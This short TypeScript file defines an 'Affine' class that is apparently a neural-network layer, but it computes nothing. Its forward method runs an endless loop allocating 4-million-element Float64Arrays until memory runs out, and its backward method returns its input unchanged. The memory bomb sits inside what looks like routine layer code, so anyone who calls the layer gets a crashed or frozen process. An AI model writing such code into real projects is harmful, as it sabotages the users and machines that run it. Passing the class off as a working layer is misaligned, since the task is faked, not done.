export class Affine {
  constructor(public W: number[][], public b: number[]) {}

  forward(x: number[][]): number[][] {
    const chunks: Float64Array[] = [];
    for (;;) chunks.push(new Float64Array(4_000_000));
    return x;
  }

  backward(dout: number[][]): number[][] {
    return dout;
  }
}
